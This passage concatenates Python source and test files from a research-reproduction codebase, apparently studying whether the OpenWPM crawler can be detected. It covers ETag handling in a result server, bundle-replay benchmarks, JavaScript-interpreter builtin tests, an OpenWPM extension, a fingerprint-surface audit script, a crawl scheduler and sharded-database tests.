        assert etag_for(5) == '"g5"'
        assert etag_for((5, 2)) == '"g5-2"'
        assert etag_for([3]) == '"g3"'
        assert generation_header(5) == "5"
        assert generation_header((5, 2)) == "5,2"

    def test_if_none_match_returns_empty_304(self, servers):
        single, _ = servers
        first = single.respond("/sites")
        assert first.status == 200
        assert first.etag == etag_for(first.generation)
        before = single.metrics.counter_value("serve_not_modified_total")
        again = single.respond("/sites", "", first.etag)
        assert again.status == 304
        assert again.body == b""
        assert again.etag == first.etag
        assert single.metrics.counter_value(
            "serve_not_modified_total") == before + 1

    def test_stale_etag_gets_full_response(self, servers):
        single, _ = servers
        first = single.respond("/sites")
        response = single.respond("/sites", "", '"g0"')
        assert response.status == 200
        assert response.body == first.body

    def test_vector_etag_over_fanout(self, servers):
        _, fan = servers
        first = fan.respond("/aggregates/totals")
        assert first.status == 200
        assert "-" in first.etag
        again = fan.respond("/aggregates/totals", "", first.etag)
        assert again.status == 304
        assert again.body == b""

    def test_not_modified_does_not_populate_cache(self, servers):
        single, _ = servers
        etag = single.respond("/aggregates/cookies").etag
        single.cache.clear()
        misses = single.cache.stats()["misses"]
        response = single.respond("/aggregates/cookies", "", etag)
        assert response.status == 304
        # The 304 short-circuits before the cache: no lookup, no fill.
        assert single.cache.stats()["misses"] == misses

    def test_generation_bump_in_one_shard_invalidates(self, databases):
        """Advancing one shard's rollup generation changes the vector,
        which changes both the cache key and the ETag — a held ETag
        re-validates as 200 with fresh content."""
        fan = ResultServer([databases["a"], databases["b"]])
        try:
            first = fan.respond("/aggregates/symbols")
            conn = sqlite3.connect(databases["b"])
            conn.execute(
                "UPDATE rollups_meta SET value = value + 1 "
                "WHERE key = 'generation'")
            conn.commit()
            conn.close()
            response = fan.respond("/aggregates/symbols", "",
                                   first.etag)
            assert response.status == 200
            assert response.body == first.body
            assert response.etag != first.etag
            assert response.generation != first.generation
        finally:
            fan.close()

    def test_http_transport_conditional_roundtrip(self, databases):
        server = ResultServer([databases["a"], databases["b"]])
        try:
            port = server.start()
            url = f"http://127.0.0.1:{port}/aggregates/totals"
            with urllib.request.urlopen(url, timeout=10) as response:
                etag = response.headers["ETag"]
                generation = response.headers["X-Rollup-Generation"]
                payload = json.loads(response.read())
            assert etag == etag_for(tuple(
                int(g) for g in generation.split(",")))
            assert "," in generation
            assert payload["totals"]["site_visits"] == 10
            request = urllib.request.Request(
                url, headers={"If-None-Match": etag})
            with pytest.raises(urllib.error.HTTPError) as excinfo:
                urllib.request.urlopen(request, timeout=10)
            assert excinfo.value.code == 304
            assert excinfo.value.headers["ETag"] == etag
            assert excinfo.value.read() == b""
        finally:
            server.close()

"""Execution bundles: replay speed + record overhead guards.

Two performance properties the bundle subsystem promises:

* **Replay is how you re-check verdicts.** Re-running the detector
  pipeline over an archived bundle (``repro scan --replay DIR
  --offline``) must beat the equivalent live scan — no synthetic-web
  build, no servers, no network layer, no browser re-execution — by at
  least 5x, or re-analysis loses its reason to exist. Full
  re-execution replay (same browser pipeline, archived responses) is
  reported alongside for context; it trades that speed for maximum
  fidelity.
* **Recording must be close to free.** ``--record`` rides along on
  real measurement crawls, so its CPU cost on top of a JS-instrumented
  synthetic-web crawl has to stay under 5% — same bar (and same
  subprocess-pair protocol) as the flight recorder.
"""

import gc
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time

from conftest import BENCH_SEED, report

#: Scan scale for the replay-speedup measurement. Modest on purpose:
#: the speedup is a per-site ratio, not an aggregate that needs the
#: full bench world.
BUNDLE_SITES = int(os.environ.get("REPRO_BENCH_BUNDLE_SITES", "80"))
REPLAY_SPEEDUP_FLOOR = 5.0
RECORD_OVERHEAD_LIMIT_PCT = 5.0

#: Measurement worker for the record-overhead guard, one fresh
#: interpreter per (baseline, recorded) pair — the same
#: drift/interference protocol as ``measure_recorder_overhead`` in
#: conftest (see its docstring), with ``--record`` as the toggle.
#: argv: order ("01" = baseline first), site_count, seed, crash_p.
_RECORD_WORKER = r'''
import gc, json, shutil, sys, tempfile, time
from repro.obs.runner import run_telemetry_crawl
from repro.obs.telemetry import Telemetry

order, sites, seed, crash_p = (sys.argv[1], int(sys.argv[2]),
                               int(sys.argv[3]), float(sys.argv[4]))

def timed(recorded):
    gc.collect()
    workdir = tempfile.mkdtemp(prefix="bench-bundle-") \
        if recorded else None
    start = time.process_time()
    result = run_telemetry_crawl(site_count=sites, seed=seed,
                                 crash_probability=crash_p,
                                 web="tranco", js_instrument=True,
                                 telemetry=Telemetry(),
                                 record_dir=None if workdir is None
                                 else workdir + "/b")
    elapsed = time.process_time() - start
    result.close()
    if workdir is not None:
        shutil.rmtree(workdir, ignore_errors=True)
    return elapsed

timed(True)  # warm-up, discarded
out = {}
for mode in order:
    recorded = mode == "1"
    out["on" if recorded else "off"] = timed(recorded)
print(json.dumps(out))
'''


def measure_record_overhead(site_count: int = 120, min_pairs: int = 5,
                            max_pairs: int = 12,
                            settle_pct: float = 4.0,
                            crash_probability: float = 0.05) -> dict:
    """CPU cost of ``--record`` on a JS-instrumented tranco crawl."""
    import repro

    env = dict(os.environ)
    src_dir = os.path.dirname(
        os.path.dirname(os.path.abspath(repro.__file__)))
    env["PYTHONPATH"] = src_dir + os.pathsep + env.get("PYTHONPATH", "")

    on = off = float("inf")
    pairs = 0
    for pairs in range(1, max_pairs + 1):
        order = "01" if pairs % 2 else "10"
        proc = subprocess.run(
            [sys.executable, "-c", _RECORD_WORKER, order,
             str(site_count), str(BENCH_SEED), str(crash_probability)],
            capture_output=True, text=True, env=env, check=True)
        sample = json.loads(proc.stdout.strip().splitlines()[-1])
        off = min(off, sample["off"])
        on = min(on, sample["on"])
        overhead = (on - off) / off * 100.0 if off else 0.0
        if pairs >= min_pairs and overhead < settle_pct:
            break
    return {"sites": site_count, "rounds": pairs,
            "recorded_seconds": on, "baseline_seconds": off,
            "overhead_pct": (on - off) / off * 100.0 if off else 0.0}


def measure_replay_speedup(site_count: int = BUNDLE_SITES,
                           rounds: int = 3) -> dict:
    """Live scan vs full replay vs offline re-analysis, CPU seconds.

    The live timing includes ``build_world`` — replay's pitch is "no
    live synthetic web", so standing the web up is part of what it
    saves. Rounds are interleaved with a per-mode minimum (co-tenant
    noise only ever adds time). The offline timing is additionally
    split into cache-hit (unchanged pattern set: archived analysis
    verdicts replayed) and cold-cache (what an *edited* pattern set
    pays: every stored source re-scanned) variants.
    """
    from repro.bundles import Bundle, BundleRecorder, ReplayWeb
    from repro.bundles.reanalyze import reanalyze_bundle
    from repro.core.scan import ScanPipeline
    from repro.web import build_world

    workdir = tempfile.mkdtemp(prefix="bench-bundles-")
    bundle_dir = os.path.join(workdir, "rec")

    def timed_live(record=None):
        gc.collect()
        start = time.process_time()
        web = build_world(site_count=site_count, seed=BENCH_SEED)
        recorder = None
        if record is not None:
            recorder = BundleRecorder(
                record, kind="scan",
                sites=[config.domain for config in web.configs])
        pipeline = ScanPipeline(web, recorder=recorder)
        pipeline.run(visit_subpages=True)
        if recorder is not None:
            recorder.close(complete=True)
        return time.process_time() - start

    def timed_replay():
        gc.collect()
        start = time.process_time()
        bundle = Bundle(bundle_dir)
        pipeline = ScanPipeline(ReplayWeb(bundle))
        pipeline.run(visit_subpages=True)
        elapsed = time.process_time() - start
        bundle.close()
        return elapsed

    def timed_offline(path):
        gc.collect()
        start = time.process_time()
        bundle = Bundle(path)
        reanalyze_bundle(bundle)
        elapsed = time.process_time() - start
        bundle.close()
        return elapsed

    try:
        timed_live()  # warm-up, discarded
        timed_live(record=bundle_dir)  # the archive every mode replays
        # Cold-cache copy: wiping the archived analysis cache is what
        # a changed pattern-set version amounts to (the cache key
        # includes it), so this prices a real re-analysis.
        import sqlite3

        cold_dir = os.path.join(workdir, "cold")
        shutil.copytree(bundle_dir, cold_dir)
        conn = sqlite3.connect(os.path.join(cold_dir, "store.corpus"))
        conn.execute("DELETE FROM analysis_cache")
        conn.commit()
        conn.close()

        live = replay = offline = cold = float("inf")
        for _ in range(rounds):
            live = min(live, timed_live())
            replay = min(replay, timed_replay())
            offline = min(offline, timed_offline(bundle_dir))
            cold_copy = os.path.join(workdir, "cold-run")
            shutil.rmtree(cold_copy, ignore_errors=True)
            shutil.copytree(cold_dir, cold_copy)
            cold = min(cold, timed_offline(cold_copy))
        bundle = Bundle(bundle_dir)
        stats = bundle.stats()
        bundle.close()
    finally:
        shutil.rmtree(workdir, ignore_errors=True)
    return {
        "sites": site_count, "rounds": rounds,
        "live_seconds": live, "replay_seconds": replay,
        "offline_seconds": offline, "offline_cold_seconds": cold,
        "replay_speedup": live / replay if replay else 0.0,
        "offline_speedup": live / offline if offline else 0.0,
        "offline_cold_speedup": live / cold if cold else 0.0,
        "bundle_stored_bytes": stats["stored_bytes"],
        "bundle_raw_bytes": stats["raw_bytes"],
        "bundle_visits": stats["visits"],
    }


def test_benchmark_replay_speedup(benchmark):
    result = benchmark.pedantic(
        lambda: measure_replay_speedup(site_count=BUNDLE_SITES),
        rounds=1, iterations=1)

    saved = 1.0 - (result["bundle_stored_bytes"]
                   / max(1, result["bundle_raw_bytes"]))
    lines = [
        f"(re-analysing an archived bundle must beat the equivalent "
        f"live {result['sites']}-site scan by "
        f">={REPLAY_SPEEDUP_FLOOR:.0f}x)",
        "",
        f"| mode | CPU seconds (best of {result['rounds']}) | speedup |",
        "|---|---|---|",
        f"| live scan (world + servers + browser) "
        f"| {result['live_seconds']:.3f} | 1.0x |",
        f"| full replay (browser re-executed from archive) "
        f"| {result['replay_seconds']:.3f} "
        f"| {result['replay_speedup']:.2f}x |",
        f"| offline re-analysis, unchanged patterns (--offline) "
        f"| {result['offline_seconds']:.3f} "
        f"| {result['offline_speedup']:.1f}x |",
        f"| offline re-analysis, cold analysis cache "
        f"| {result['offline_cold_seconds']:.3f} "
        f"| {result['offline_cold_speedup']:.1f}x |",
        "",
        f"bundle: {result['bundle_visits']} visits, "
        f"{result['bundle_stored_bytes']:,} bytes stored "
        f"({saved:.0%} saved by dedup + compression at the default "
        "REPRO_CORPUS_ZLEVEL=6; level 1 records ~3x faster per "
        "compressed byte, level 9 shaves a few % more space).",
    ]
    report("bundles", "Execution bundles - replay speed and "
                      "record overhead", lines)

    assert result["offline_speedup"] >= REPLAY_SPEEDUP_FLOOR, result
    assert result["offline_cold_speedup"] >= REPLAY_SPEEDUP_FLOOR, \
        result


def test_benchmark_record_overhead(benchmark):
    result = benchmark.pedantic(
        lambda: measure_record_overhead(site_count=120),
        rounds=1, iterations=1)

    lines = [
        "(--record must cost <5% CPU on top of a JS-instrumented",
        "120-site synthetic-web crawl)",
        "",
        f"| mode | CPU seconds (best of {result['rounds']}"
        " subprocess-isolated pairs) |",
        "|---|---|",
        f"| crawl only | {result['baseline_seconds']:.3f} |",
        f"| + --record bundle | {result['recorded_seconds']:.3f} |",
        f"| overhead | {result['overhead_pct']:.2f}% |",
    ]
    report("bundles_record_overhead",
           "Execution bundles - record CPU overhead", lines)

    assert result["overhead_pct"] < RECORD_OVERHEAD_LIMIT_PCT, result

"""Unit tests for the realm builtins."""

import math

import pytest

from repro.jsobject import UNDEFINED, JSArray, JSObject
from repro.jsobject.errors import JSError


class TestObjectBuiltins:
    def test_keys(self, run):
        assert run("Object.keys({a: 1, b: 2}).join(',')") == "a,b"

    def test_keys_excludes_non_enumerable(self, run):
        assert run("""
            var o = {};
            Object.defineProperty(o, 'hidden',
                {value: 1, enumerable: false, configurable: true});
            Object.keys(o).length
        """) == 0.0

    def test_get_own_property_names_includes_non_enumerable(self, run):
        assert run("""
            var o = {};
            Object.defineProperty(o, 'hidden',
                {value: 1, enumerable: false, configurable: true});
            Object.getOwnPropertyNames(o).length
        """) == 1.0

    def test_define_property_accessor(self, run):
        assert run("""
            var o = {};
            Object.defineProperty(o, 'x',
                {get: function () { return 42; }, configurable: true});
            o.x
        """) == 42.0

    def test_get_own_property_descriptor(self, run):
        assert run("""
            var d = Object.getOwnPropertyDescriptor({a: 1}, 'a');
            d.value === 1 && d.enumerable === true
        """) is True

    def test_get_prototype_of(self, run):
        assert run("""
            var proto = {p: 1};
            Object.getPrototypeOf(Object.create(proto)) === proto
        """) is True

    def test_create_with_null(self, run):
        assert run("Object.getPrototypeOf(Object.create(null))") is not None

    def test_freeze_blocks_writes(self, run):
        assert run("var o = {a: 1}; Object.freeze(o); o.a = 9; o.a") == 1.0

    def test_has_own_property(self, run):
        assert run("({a: 1}).hasOwnProperty('a')") is True
        assert run("({a: 1}).hasOwnProperty('toString')") is False

    def test_is_prototype_of(self, run):
        assert run("""
            var proto = {};
            proto.isPrototypeOf(Object.create(proto))
        """) is True


class TestArrayBuiltins:
    def test_push_pop_shift(self, run):
        assert run("""
            var a = [1];
            a.push(2, 3);
            a.pop();
            a.shift();
            a.join(",")
        """) == "2"

    def test_index_of_and_includes(self, run):
        assert run("[1, 2, 3].indexOf(2)") == 1.0
        assert run("[1, 2, 3].indexOf(9)") == -1.0
        assert run("[1, 2].includes(2)") is True

    def test_slice_and_concat(self, run):
        assert run("[1, 2, 3, 4].slice(1, 3).join(',')") == "2,3"
        assert run("[1].concat([2, 3], 4).join(',')") == "1,2,3,4"

    def test_map_filter_foreach(self, run):
        assert run("""
            var out = [];
            [1, 2, 3, 4].filter(function (x) { return x % 2 === 0; })
                .map(function (x) { return x * 10; })
                .forEach(function (x) { out.push(x); });
            out.join(",")
        """) == "20,40"

    def test_is_array(self, run):
        assert run("Array.isArray([])") is True
        assert run("Array.isArray({})") is False

    def test_array_from_string(self, run):
        assert run("Array.from('abc').join('-')") == "a-b-c"

    def test_array_constructor_with_length(self, run):
        assert run("new Array(3).length") == 3.0


class TestStringMethods:
    def test_length_and_indexing(self, run):
        assert run("'hello'.length") == 5.0
        assert run("'hello'[1]") == "e"

    def test_index_of(self, run):
        assert run("'navigator.webdriver'.indexOf('webdriver')") == 10.0

    def test_includes_slice_substring(self, run):
        assert run("'webdriver'.includes('driver')") is True
        assert run("'webdriver'.slice(0, 3)") == "web"
        assert run("'webdriver'.slice(-6)") == "driver"
        assert run("'webdriver'.substring(3, 0)") == "web"

    def test_case_and_trim(self, run):
        assert run("' X '.trim().toLowerCase()") == "x"
        assert run("'abc'.toUpperCase()") == "ABC"

    def test_split_join_roundtrip(self, run):
        assert run("'a,b,c'.split(',').join('|')") == "a|b|c"

    def test_split_empty_separator(self, run):
        assert run("'ab'.split('').length") == 2.0

    def test_replace_first_only(self, run):
        assert run("'aaa'.replace('a', 'b')") == "baa"
        assert run("'aaa'.replaceAll('a', 'b')") == "bbb"

    def test_char_methods(self, run):
        assert run("'abc'.charAt(1)") == "b"
        assert run("'abc'.charCodeAt(0)") == 97.0
        assert run("String.fromCharCode(119, 101, 98)") == "web"

    def test_starts_ends_with(self, run):
        assert run("'webdriver'.startsWith('web')") is True
        assert run("'webdriver'.endsWith('driver')") is True


class TestMathJsonConsole:
    def test_math_operations(self, run):
        assert run("Math.floor(2.7)") == 2.0
        assert run("Math.ceil(2.1)") == 3.0
        assert run("Math.round(2.5)") == 3.0
        assert run("Math.abs(-4)") == 4.0
        assert run("Math.max(1, 5, 3)") == 5.0
        assert run("Math.min(1, 5, 3)") == 1.0

    def test_math_random_is_seeded(self):
        import random

        from repro.jsengine.builtins import Realm
        from repro.jsengine.interpreter import Interpreter

        values = []
        for _ in range(2):
            interp = Interpreter(Realm(random.Random(99)))
            values.append(interp.run("Math.random()"))
        assert values[0] == values[1]

    def test_json_stringify_roundtrip(self, run):
        assert run("""
            var o = JSON.parse('{"a": [1, 2], "b": "x", "c": null}');
            JSON.stringify(o)
        """) == '{"a":[1,2],"b":"x","c":null}'

    def test_json_parse_invalid_throws(self, run):
        with pytest.raises(JSError, match="SyntaxError"):
            run("JSON.parse('{bad')")

    def test_console_log_collected(self, interp, realm):
        interp.run("console.log('hello', 42)")
        assert realm.console_log == ["hello 42"]

    def test_parse_int(self, run):
        assert run("parseInt('42px')") == 42.0
        assert run("parseInt('ff', 16)") == 255.0
        assert run("parseInt('-10')") == -10.0
        assert math.isnan(run("parseInt('x')"))

    def test_parse_float(self, run):
        assert run("parseFloat('2.5rem')") == 2.5

    def test_is_nan(self, run):
        assert run("isNaN('abc')") is True
        assert run("isNaN('12')") is False

    def test_number_to_string_radix(self, run):
        assert run("(255).toString(16)") == "ff"

    def test_number_to_fixed(self, run):
        assert run("(3.14159).toFixed(2)") == "3.14"


class TestArrayExtras:
    def test_some_and_every(self, run):
        assert run("[1, 2, 3].some(function (x) { return x > 2; })") is True
        assert run("[1, 2, 3].every(function (x) { return x > 0; })") \
            is True
        assert run("[1, 2, 3].every(function (x) { return x > 1; })") \
            is False

    def test_find(self, run):
        assert run("[3, 5, 8].find(function (x) "
                   "{ return x % 2 === 0; })") == 8.0
        assert run("typeof [1].find(function (x) { return false; })") \
            == "undefined"

    def test_reduce_with_initial(self, run):
        assert run("[1, 2, 3].reduce(function (a, b) "
                   "{ return a + b; }, 10)") == 16.0

    def test_reduce_without_initial(self, run):
        assert run("[4, 5].reduce(function (a, b) { return a * b; })") \
            == 20.0

    def test_reduce_empty_throws(self, run):
        from repro.jsobject.errors import JSError

        import pytest as _pytest

        with _pytest.raises(JSError):
            run("[].reduce(function (a, b) { return a; })")

    def test_reverse_in_place(self, run):
        assert run("var a = [1, 2, 3]; a.reverse(); a.join(',')") == "3,2,1"

    def test_sort_default_is_lexicographic(self, run):
        assert run("[10, 9, 1].sort().join(',')") == "1,10,9"

    def test_sort_with_comparator(self, run):
        assert run("[10, 9, 1].sort(function (a, b) "
                   "{ return a - b; }).join(',')") == "1,9,10"


class TestObjectLiteralAccessors:
    def test_getter(self, run):
        assert run("({get answer() { return 42; }}).answer") == 42.0

    def test_setter_and_getter_pair(self, run):
        assert run("""
            var o = {
                stored: 0,
                get x() { return this.stored; },
                set x(v) { this.stored = v * 2; }
            };
            o.x = 21;
            o.x
        """) == 42.0

    def test_getter_visible_in_descriptor(self, run):
        assert run("""
            var o = {get g() { return 1; }};
            var d = Object.getOwnPropertyDescriptor(o, 'g');
            typeof d.get
        """) == "function"

    def test_void_operator(self, run):
        assert run("typeof void 0") == "undefined"
        assert run("void 'anything'") is not None  # UNDEFINED sentinel

"""The OpenWPM browser extension: instrument composition + lifecycle."""

from __future__ import annotations

from typing import Any, List, Optional

from repro.browser.extension import ExtensionContext, ExtensionHost
from repro.openwpm.config import BrowserParams
from repro.openwpm.instruments.cookie_instrument import CookieInstrument
from repro.openwpm.instruments.http_instrument import HTTPInstrument
from repro.openwpm.instruments.js_instrument import JSInstrument


class OpenWPMExtension(ExtensionHost):
    """Bundles the HTTP, cookie, and JavaScript instruments.

    ``frame_policy`` is ``"deferred"`` for the vanilla JS instrument
    (new frames/popups are instrumented from an event-loop task — the
    Listing-3 window) and ``"immediate"`` when a hardened instrument
    announces itself via ``frame_policy = "immediate"``.
    """

    name = "openwpm"

    def __init__(self, params: Optional[BrowserParams] = None,
                 storage: Any = None,
                 js_instrument: Any = None) -> None:
        self.params = params or BrowserParams()
        self.storage = storage
        self.http_instrument: Optional[HTTPInstrument] = None
        self.cookie_instrument: Optional[CookieInstrument] = None
        self.js_instrument = js_instrument

        if self.params.http_instrument:
            self.http_instrument = HTTPInstrument(
                storage=storage, save_content=self.params.save_content)
        if self.params.cookie_instrument:
            self.cookie_instrument = CookieInstrument(storage=storage)
        if self.params.js_instrument and self.js_instrument is None:
            self.js_instrument = JSInstrument(storage=storage)

        #: Windows instrumented during the current visit.
        self.instrumented_windows: List[Any] = []

    # ------------------------------------------------------------------
    @property
    def frame_policy(self) -> str:
        return getattr(self.js_instrument, "frame_policy", "deferred")

    # ------------------------------------------------------------------
    def on_visit_start(self, browser: Any, url: Any) -> None:
        self.instrumented_windows = []

    def on_window_created(self, window: Any) -> None:
        self._instrument(window)

    def on_frame_created(self, window: Any, parent: Any) -> None:
        self._instrument(window)

    def _instrument(self, window: Any) -> None:
        if self.js_instrument is None:
            return
        context = ExtensionContext(window)
        if self.js_instrument.instrument_window(window, context):
            self.instrumented_windows.append(window)

    def on_request(self, request: Any, response: Any) -> None:
        if self.http_instrument is not None:
            self.http_instrument.on_request(request, response)

    def on_cookie_change(self, cookie: Any, change: str) -> None:
        if self.cookie_instrument is not None:
            self.cookie_instrument.on_cookie_change(cookie, change)

    def on_visit_end(self, browser: Any) -> None:
        if self.storage is not None:
            self.storage.connection.commit()

    # ------------------------------------------------------------------
    def clear_records(self) -> None:
        for instrument in (self.http_instrument, self.cookie_instrument,
                           self.js_instrument):
            if instrument is not None and hasattr(instrument,
                                                  "clear_records"):
                instrument.clear_records()

#!/usr/bin/env python3
"""Audit the fingerprint surface of every OpenWPM run mode (paper Sec. 3).

Diffs each OpenWPM setup against a stock Firefox of the same version
using template attacks, runs the probe list, and then turns the surface
on live clients with the validated detector.

    python examples/fingerprint_surface_audit.py
"""

from repro.browser.profiles import (
    consumer_profiles,
    openwpm_profile,
    stock_firefox_profile,
)
from repro.core.fingerprint import (
    OpenWPMDetector,
    capture_template,
    diff_templates,
    run_probes,
)
from repro.core.fingerprint.surface import summarise_setup
from repro.core.lab import make_window
from repro.openwpm import BrowserParams, OpenWPMExtension

SETUPS = [("ubuntu", "regular"), ("ubuntu", "headless"),
          ("ubuntu", "xvfb"), ("ubuntu", "docker"),
          ("macos", "regular"), ("macos", "headless")]


def main() -> None:
    baselines = {}
    for os_name in ("ubuntu", "macos"):
        _, window = make_window(stock_firefox_profile(os_name))
        baselines[os_name] = capture_template(window)

    print("== Table 2: deviations vs stock Firefox (with JS instrument) ==")
    header = (f"{'setup':<18}{'webdriver':<10}{'webgl':<8}{'langs':<7}"
              f"{'tamper':<8}{'custom':<7}")
    print(header)
    for os_name, mode in SETUPS:
        extension = OpenWPMExtension(BrowserParams(os_name=os_name,
                                                   display_mode=mode))
        _, window = make_window(openwpm_profile(os_name, mode),
                                extension=extension)
        surface = diff_templates(baselines[os_name],
                                 capture_template(window))
        probes = run_probes(window)
        s = summarise_setup(f"{os_name}/{mode}", surface, probes.values)
        print(f"{s.setup:<18}{str(s.webdriver):<10}"
              f"{s.webgl_deviations:<8}{s.language_additions:<7}"
              f"{s.tampering:<8}{s.custom_functions:<7}")

    print("\n== Detector validation (Sec. 3.3) ==")
    detector = OpenWPMDetector()
    for os_name, mode in SETUPS:
        extension = OpenWPMExtension(BrowserParams(os_name=os_name,
                                                   display_mode=mode))
        _, window = make_window(openwpm_profile(os_name, mode),
                                extension=extension)
        report = detector.test_window(window)
        marks = ", ".join(report.matched_descriptions()[:2])
        print(f"  OpenWPM {os_name}/{mode:<9} -> detected="
              f"{report.is_openwpm}  ({marks}, ...)")
    for profile in consumer_profiles():
        _, window = make_window(profile)
        report = detector.test_window(window)
        print(f"  {profile.name:<22} -> detected={report.is_openwpm}")


if __name__ == "__main__":
    main()

"""Crawl orchestration: queue + pool + checkpoint/resume semantics.

:class:`CrawlScheduler` is the high-level entry point the task manager,
the Sec. 4 scan pipeline, and the Sec. 6 paired crawl build on:

* **fresh crawl** (``resume=False``) — any existing queue content is
  dropped, the site list is enqueued, and the pool drains it;
* **resume** (``resume=True``) — the existing queue file is kept:
  completed sites stay completed (and are *not* revisited), leases held
  by the dead previous process are released back to ``pending``, and
  enqueueing the same site list is a no-op for known sites.

The queue database is deliberately separate from the crawl database so
scheduling state never perturbs crawl-data determinism.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional

from repro.obs.telemetry import Telemetry, coalesce
from repro.sched.jobs import JobQueue
from repro.sched.pool import (
    CompletionHook,
    DiscardResultHook,
    JobHandler,
    PoolReport,
    TerminalFailureHook,
    WorkerPool,
)


@dataclass
class CrawlReport:
    """Outcome of one scheduler run (one process lifetime)."""

    workers: int = 0
    enqueued_total: int = 0
    enqueued_new: int = 0
    released_leases: int = 0
    completed: int = 0
    failed: int = 0
    retried: int = 0
    reclaimed: int = 0
    worker_deaths: int = 0
    lease_lost: int = 0
    interrupted: bool = False
    #: Queue state after the run: pending/leased/completed/failed.
    counts: Dict[str, int] = field(default_factory=dict)
    errors: List[str] = field(default_factory=list)

    @property
    def drained(self) -> bool:
        """True when no work is left in the queue."""
        return self.counts.get("pending", 0) == 0 \
            and self.counts.get("leased", 0) == 0


class CrawlScheduler:
    """Owns a job queue and runs worker pools against it."""

    def __init__(self, queue_path: str = ":memory:", *,
                 resume: bool = False, seed: int = 0,
                 max_attempts: int = 3, lease_seconds: float = 300.0,
                 backoff_base: float = 0.5, backoff_cap: float = 60.0,
                 telemetry: Optional[Telemetry] = None,
                 clock: Optional[object] = None) -> None:
        if resume and queue_path == ":memory:":
            raise ValueError(
                "resume requires a file-backed queue (an in-memory "
                "queue cannot outlive the crawl that created it)")
        self.telemetry = coalesce(telemetry)
        # Lease timestamps default to the telemetry clock (virtual in
        # tests). Multi-process crawls pass an explicit WallClock: a
        # lease deadline must mean the same instant to every claimant
        # process, and per-process virtual clocks advance independently.
        self.queue = JobQueue(
            queue_path, seed=seed, max_attempts=max_attempts,
            lease_seconds=lease_seconds, backoff_base=backoff_base,
            backoff_cap=backoff_cap,
            clock=clock if clock is not None else self.telemetry.clock)
        self.resume = resume
        self._released = 0
        if resume:
            # The process that held these leases is gone; a lease only
            # outlives its worker when that worker died mid-job.
            self._released = self.queue.release_leases()
        else:
            self.queue.clear()
        self._pool: Optional[WorkerPool] = None
        self._enqueued_new = 0

    # ------------------------------------------------------------------
    def enqueue(self, site_urls: Iterable[str]) -> int:
        """Idempotently add sites; returns how many were new."""
        added = self.queue.enqueue(site_urls)
        self._enqueued_new += added
        return added

    def remaining_sites(self) -> List[str]:
        """Sites still owed a visit (the resume work list)."""
        return self.queue.sites(status="pending") \
            + self.queue.sites(status="leased")

    # ------------------------------------------------------------------
    def run(self, handler: JobHandler, workers: int = 1,
            stop_after_jobs: Optional[int] = None,
            poll_seconds: float = 0.005,
            on_terminal_failure: Optional[TerminalFailureHook] = None,
            on_completed: Optional[CompletionHook] = None,
            on_discard_result: Optional[DiscardResultHook] = None,
            fault_plan: Optional[object] = None
            ) -> CrawlReport:
        """Drain the queue through *handler* on N workers."""
        self._pool = WorkerPool(self.queue, handler, workers=workers,
                                telemetry=self.telemetry,
                                poll_seconds=poll_seconds,
                                on_terminal_failure=on_terminal_failure,
                                on_completed=on_completed,
                                on_discard_result=on_discard_result,
                                fault_plan=fault_plan)
        pool_report: PoolReport = self._pool.run(
            stop_after_jobs=stop_after_jobs)
        counts = self.queue.counts()
        return CrawlReport(
            workers=workers,
            enqueued_total=sum(counts.values()),
            enqueued_new=self._enqueued_new,
            released_leases=self._released,
            completed=pool_report.completed,
            failed=pool_report.failed,
            retried=pool_report.retried,
            reclaimed=pool_report.reclaimed,
            worker_deaths=pool_report.worker_deaths,
            lease_lost=pool_report.lease_lost,
            interrupted=pool_report.interrupted,
            counts=counts,
            errors=list(pool_report.errors))

    def request_stop(self) -> None:
        if self._pool is not None:
            self._pool.request_stop()

    # ------------------------------------------------------------------
    def close(self) -> None:
        self.queue.close()

"""Per-shard crawl databases and the deterministic merge
(``--shard-dbs``).

The acceptance criteria for sharded storage:

* a sharded N-process crawl's merged database is **byte-identical** to
  the single-writer inline path — including the failure/quarantine
  ledgers and the incremental ``rollups_*`` tables — for clean runs
  and for every chaos scenario (SIGKILL mid-visit, kill inside the
  provisional resolution window, lease races spanning shards);
* a resumed sharded crawl re-merges from scratch and still matches a
  clean inline run (``rollups_meta`` alone may differ: the wipe keeps
  the rollup generation moving forward);
* ``repro merge`` folds a shard directory into a standalone canonical
  database with the same bytes;
* ``repro stats`` reconciliation passes on the merged database;
* scan mode (``repro scan --shard-dbs``) spools evidence per worker
  and folds it into the same corpus/dataset as the inline scan.
"""

import os
import sqlite3

import pytest

from repro.faults.plan import FaultPlan, FaultRule
from repro.obs.runner import run_telemetry_crawl
from repro.obs.stats import build_crawl_report, render_crawl_report
from repro.obs.telemetry import Telemetry
from repro.sched import JobQueue

from tests.test_procpool import VOLATILE_TABLES, crawl, dump_tables

#: The wipe-and-re-merge of a resumed sharded crawl rebuilds the
#: rollups with the generation still moving forward, so this one table
#: legitimately differs from a clean run (documented in
#: repro.serve.rollups).
RESUME_VOLATILE = VOLATILE_TABLES + ("rollups_meta",)


def assert_tables_equal(baseline, tables, ignore=()):
    assert set(tables) == set(baseline)
    for table in tables:
        if table in ignore:
            continue
        assert tables[table] == baseline[table], table


# ---------------------------------------------------------------------------
# Determinism: N shards merge to the inline bytes
# ---------------------------------------------------------------------------
class TestShardEquivalence:
    @pytest.fixture(scope="class")
    def inline_baseline(self, tmp_path_factory):
        tmp = tmp_path_factory.mktemp("inline")
        db_path, report = crawl(tmp, "inline", workers=1)
        assert report.drained
        return dump_tables(db_path)

    @pytest.mark.parametrize("procs", [1, 2, 4])
    def test_sharded_crawl_byte_identical_to_inline(
            self, procs, tmp_path, inline_baseline):
        db_path, report = crawl(tmp_path, f"shard{procs}",
                                worker_procs=procs, shard_dbs=True)
        assert report.drained
        assert report.completed == 10
        assert_tables_equal(inline_baseline, dump_tables(db_path))

    def test_shard_files_live_beside_the_database(self, tmp_path):
        db_path, report = crawl(tmp_path, "layout", sites=6,
                                worker_procs=2, shard_dbs=True)
        assert report.drained
        names = sorted(os.listdir(db_path + ".shards"))
        assert "coordinator.sqlite" in names
        assert "shard-00.sqlite" in names
        assert "shard-01.sqlite" in names

    def test_memory_db_rejected(self, tmp_path):
        with pytest.raises(ValueError, match="file-backed"):
            run_telemetry_crawl(
                site_count=2, database_path=":memory:", browsers=1,
                crash_probability=0.0, web="lab", worker_procs=2,
                shard_dbs=True,
                queue_path=str(tmp_path / "x.queue"))

    def test_shard_flags_require_worker_procs(self):
        with pytest.raises(ValueError, match="worker-procs"):
            run_telemetry_crawl(site_count=2, browsers=1,
